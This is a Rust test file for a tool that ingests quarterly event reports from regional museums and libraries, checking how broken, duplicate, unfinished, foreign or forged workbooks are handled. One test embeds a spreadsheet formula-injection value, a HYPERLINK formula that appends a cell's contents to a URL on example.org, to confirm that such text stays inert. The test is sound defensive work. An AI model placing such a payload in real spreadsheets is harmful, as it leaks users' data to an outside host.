//! Files that are not what they should be: each gets its finding in words, keeps its place in the sum, stops nothing.

use std::fs;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

use crate::campaign::{Campaign, Returned, files};

fn campaign() -> Campaign {
    Campaign::new("international-events", "2024-Q1")
        .institution("museum", "ОГБУК «Приреченский краеведческий музей»")
        .institution("library", "ОГБУК «Речегорская областная научная библиотека»")
}

#[test]
fn a_file_of_another_quarter_waits_for_a_person() {
    let ran =
        campaign().returns("museum", &Returned::new().event(&[("start", "2024-04-02")]).for_period("2024-Q2")).run();
    assert!(ran.has("T02"));
    assert_eq!(ran.tally(), [1, 0, 0, 0, 1]);
    assert_eq!(ran.code, 1);
}

#[test]
fn a_file_of_an_institution_that_the_register_does_not_hold_waits_for_a_person() {
    let stranger = Campaign::new("international-events", "2024-Q1").institution("circus", "Речегорский цирк");
    let bytes = stranger.workbook("circus", &Returned::new().event(&[]));
    let ran = campaign().file("Отчёт.xlsx", &bytes).returns("museum", &Returned::new().event(&[])).run();
    assert!(ran.has("T01"));
    assert_eq!(ran.tally(), [2, 1, 0, 0, 1]);
}

#[test]
fn a_broken_a_foreign_and_an_empty_file_are_refused_and_stay_visible_with_the_reason() {
    let good = campaign();
    let bytes = good.workbook("museum", &Returned::new().event(&[]));
    let mut price_list = rust_xlsxwriter::Workbook::new();
    price_list.add_worksheet().write_string(0, 0, "Цена").unwrap().write_number(1, 0, 12.5).unwrap();
    let campaign = good
        .file("музей.xlsx", &bytes)
        .file("обрыв.xlsx", &bytes[..bytes.len() / 2])
        .file("прайс.xlsx", &price_list.save_to_buffer().unwrap())
        .file("пустой.xlsx", b"");
    let ran = campaign.run();
    assert_eq!(ran.tally(), [1, 1, 0, 0, 0]);
    for code in ["F03", "F01", "F04"] {
        assert!(ran.has(code), "{code} in {:?}", ran.codes("error"));
    }
    let unusable: Vec<_> = files(&campaign.root().join("2024-Q1/unusable")).into_iter().map(|(name, _)| name).collect();
    assert_eq!(unusable.len(), 6, "three files, each with its reason: {unusable:?}");
    let inbox = files(&campaign.inbox());
    assert!(inbox.is_empty(), "everything was taken");
}

#[test]
fn rows_with_the_mark_no_events_wait_and_no_rows_without_it_are_an_error() {
    let ran = campaign().returns("museum", &Returned::nil().event(&[])).returns("library", &Returned::new()).run();
    assert!(ran.has("T03") && ran.has("T04"));
    assert_eq!(ran.tally(), [1, 0, 0, 0, 1]);
}

#[test]
fn a_nil_report_is_an_answer_and_silence_is_none() {
    let ran = campaign().returns("museum", &Returned::nil()).run();
    let states: Vec<_> =
        ran.answer["institutions"].as_array().unwrap().iter().map(|answer| answer["state"].clone()).collect();
    assert_eq!(states, ["nil", "silent"]);
    assert_eq!(ran.code, 0, "{:?}", ran.answer["findings"]);
}

#[test]
fn a_wrong_row_is_refused_with_its_cell_and_the_others_go_on() {
    let campaign = campaign().returns(
        "museum",
        &Returned::new()
            .event(&[("title", "Вечер, которого не могло быть"), ("start", ""), ("dates_text", "31 апреля 2024 года")])
            .event(&[("title", "Иностранцев больше, чем людей"), ("total", "10"), ("foreign", "12")])
            .event(&[("title", "Вечер в апреле"), ("start", "2024-04-11")])
            .event(&[]),
    );
    let ran = campaign.run();
    assert_eq!(ran.tally(), [4, 1, 0, 3, 0]);
    for code in ["D02", "U03", "D04"] {
        let found = ran.answer["findings"].as_array().unwrap().iter().find(|finding| finding["code"] == code);
        let found = found.unwrap_or_else(|| panic!("{code} in {}", ran.answer["findings"]));
        assert!(found["cell"].is_string() && found["sheet"].is_string(), "{found}");
        assert!(found["message"].as_str().unwrap().chars().count() > 20, "{found}");
    }
    assert_eq!(ran.events()["refused"].as_array().unwrap().len(), 3);
}

#[test]
fn the_same_file_twice_is_one_file() {
    let campaign = campaign();
    let bytes = campaign.workbook("museum", &Returned::new().event(&[]));
    let campaign = campaign.file("музей.xlsx", &bytes).file("музей (копия).xlsx", &bytes);
    let ran = campaign.run();
    assert_eq!(ran.tally(), [1, 1, 0, 0, 0]);
    assert_eq!(ran.answer["inbox"]["repeated"].as_array().unwrap().len(), 1);
    assert_eq!(files(&campaign.root().join("2024-Q1/originals")).len(), 1);
}

#[test]
fn a_newer_file_replaces_the_older_one_whole_and_the_difference_is_shown() {
    let campaign = campaign().returns(
        "museum",
        &Returned::new()
            .event(&[("title", "Первый вечер")])
            .event(&[("title", "Второй вечер"), ("start", "2024-02-11")]),
    );
    assert_eq!(campaign.run().tally(), [2, 2, 0, 0, 0]);
    let newer = Returned::new()
        .event(&[("title", "Первый вечер"), ("participants", "Общее количество участников – 55 человек")]);
    let bytes = campaign.workbook("museum", &newer);
    campaign.drop_file("музей исправлено.xlsx", &bytes);
    let ran = campaign.run();
    assert_eq!(ran.tally(), [1, 1, 0, 0, 0]);
    let versions = ran.answer["institutions"][0]["versions"].as_array().unwrap();
    assert_eq!(versions.iter().map(|version| version["current"].as_bool().unwrap()).collect::<Vec<_>>(), [false, true]);
    let story = campaign.command(&["status", "2024-Q1", "--of", "museum"]);
    let story = String::from_utf8_lossy(&story.stdout).into_owned();
    assert!(story.contains("Второй вечер") && story.contains("55 человек"), "{story}");
}

#[test]
fn lock_and_system_files_are_left_alone() {
    let campaign = campaign()
        .file("~$музей.xlsx", b"lock")
        .file(".~lock.музей.xlsx#", b"lock")
        .file("Thumbs.db", b"thumbs")
        .file("._музей.xlsx", b"mac");
    let ran = campaign.run();
    assert_eq!(ran.tally(), [0; 5]);
    assert_eq!(ran.answer["inbox"]["skipped"].as_array().unwrap().len(), 4);
    assert_eq!(files(&campaign.inbox()).len(), 4);
}

#[test]
fn a_file_that_is_still_being_written_is_left_for_the_next_run() {
    let campaign = campaign();
    let bytes = campaign.workbook("museum", &Returned::new().event(&[]));
    let path = campaign.inbox().join("музей.xlsx");
    let mut file = fs::File::create(&path).unwrap();
    let writer = std::thread::spawn(move || {
        // A copy over a slow network, a piece every 20 ms.
        for piece in bytes.chunks(bytes.len().div_ceil(100)) {
            file.write_all(piece).unwrap();
            file.sync_all().unwrap();
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    let ran = campaign.run();
    assert_eq!(ran.answer["inbox"]["unfinished"], serde_json::json!(["музей.xlsx"]));
    assert!(path.exists());
    writer.join().unwrap();
    assert_eq!(campaign.run().tally(), [1, 1, 0, 0, 0]);
}

#[test]
fn a_renamed_file_is_still_known_and_moved_columns_do_no_harm() {
    let campaign = campaign();
    let bytes = campaign.workbook("museum", &Returned::new().event(&[]));
    let ran = campaign.file("Копия Без имени 17 (2).xlsx", &bytes).run();
    assert_eq!(ran.answer["institutions"][0]["rows"]["in_report"], 1);
}

#[test]
fn text_that_looks_like_a_formula_stays_text_in_every_artifact() {
    let evil = "=HYPERLINK(\"http://example.org/?\"&A1;\"нажмите\")";
    let campaign = campaign().returns("museum", &Returned::new().event(&[("title", evil), ("note", "+1+1")]));
    let ran = campaign.run();
    assert_eq!(ran.events()["events"][0]["fields"]["title"], evil);
    for (name, bytes) in ran.artifacts() {
        if Path::new(&name).extension().is_none_or(|extension| extension != "xlsx") {
            continue;
        }
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        for index in 0..archive.len() {
            let mut part = archive.by_index(index).unwrap();
            let mut text = String::new();
            if part.name().unwrap().starts_with("xl/worksheets/sheet") {
                std::io::Read::read_to_string(&mut part, &mut text).unwrap();
                assert!(!text.contains("<f>"), "{name}: {} has a formula", part.name().unwrap());
            }
        }
    }
}

#[test]
fn a_return_bears_the_token_of_its_workspace_and_one_of_an_older_svod_none() {
    let campaign = campaign()
        .returns("museum", &Returned::new().event(&[]))
        .returns("library", &Returned::new().event(&[("title", "Вечер без подписи")]).without_token());
    // Another key: what bears a token of the former one was not issued here.
    fs::write(campaign.root().join("svod.key"), b"another key").unwrap();
    let ran = campaign.run();
    let forged: Vec<_> = ran.answer["findings"].as_array().unwrap().iter().filter(|one| one["code"] == "T10").collect();
    assert_eq!(forged.len(), 1, "{}", ran.answer["findings"]);
    assert_eq!(forged[0]["file"], "museum.xlsx");
}
